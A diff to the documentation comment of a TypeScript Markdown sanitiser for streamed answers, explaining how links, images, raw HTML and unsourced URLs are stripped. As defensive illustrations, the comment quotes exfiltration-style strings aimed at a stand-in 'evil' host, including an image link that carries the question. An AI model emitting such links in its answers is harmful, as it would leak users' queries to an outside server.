@@ -12,9 +12,10 @@ import { fromMarkdown } from "mdast-util-from-markdown";
  *   autolink whose decoded destination is not a URL occurring in a source is removed (a link keeps
  *   its text); so is every reference definition (one would change how text before it parses, and
  *   a stream has sent that text already: a reference then reads as its bracketed text); raw HTML
- *   is kept only when it is nothing but attribute-free formatting tags; a bare URL no source
- *   contains is removed. A rendering client then cannot be made to fetch a URL that carries the
- *   question (`![x](https://evil/?q=…)`) or send a reader to one no document named.
+ *   is kept only when it is nothing but attribute-free formatting tags, and a `<` that micromark
+ *   reads as text but could open a tag elsewhere is written `&lt;`; a bare URL no source contains
+ *   is removed. A rendering client then cannot be made to fetch a URL that carries the question
+ *   (`![x](https://evil/?q=…)`) or send a reader to one no document named.
  *
  * Streams: the answer is cut where a CommonMark paragraph must end (after a blank line; past
  * MAX_HELD_CHARS without one, at the last line end before it), and each piece is cleaned as it
@@ -24,10 +25,11 @@ import { fromMarkdown } from "mdast-util-from-markdown";
  * however the tokens were split (leading and trailing whitespace trimmed, the leading before
  * cleaning: trimming it after could turn an indented code block into live Markdown).
  *
- * Failure modes: none thrown. A piece that does not settle after MAX_ROUNDS rounds of removal (each
- * round re-parses, since a removal can join two harmless halves into a new construct) is dropped
- * whole (each round removes text or escapes a `<`, so few rounds settle any real answer). Cost: a piece with no bracket, tag, entity, escape or URL is not parsed; any other is
- * parsed once per round with its context (micromark: a few ms per KiB).
+ * Failure modes: none thrown. Each round re-parses, since a removal can join two harmless halves
+ * into a new construct (`[x]<!-- -->(//evil)`); a piece that has not settled after MAX_ROUNDS
+ * rounds is dropped whole (a real answer settles in one or two). Cost: a piece with no bracket,
+ * tag, entity, escape or URL after a blank line is not parsed; any other is parsed once per round
+ * with its context (micromark: a few ms per KiB).
  */
 
 const URL_IN_TEXT = /\b(?:https?|ftp):\/\/[^\s<>"'`)\]]+/gi;
